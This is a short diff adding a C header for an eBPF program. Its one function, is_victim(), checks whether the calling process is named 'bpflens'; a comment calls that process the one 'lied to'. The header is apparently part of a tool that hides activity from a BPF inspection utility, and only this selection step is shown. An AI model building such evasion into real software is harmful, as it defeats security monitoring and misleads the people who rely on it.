@@ -1,0 +1,16 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+#ifndef HIDE_BPF_H
+#define HIDE_BPF_H
+
+#include "types.bpf.h"
+
+/* Who is lied to. */
+static __always_inline int is_victim(void)
+{
+	char comm[16] = "";
+
+	bpf_get_current_comm(comm, sizeof(comm));
+	return *(__u64 *)comm == 0x736e656c667062ull;	/* "bpflens" */
+}
+
+#endif
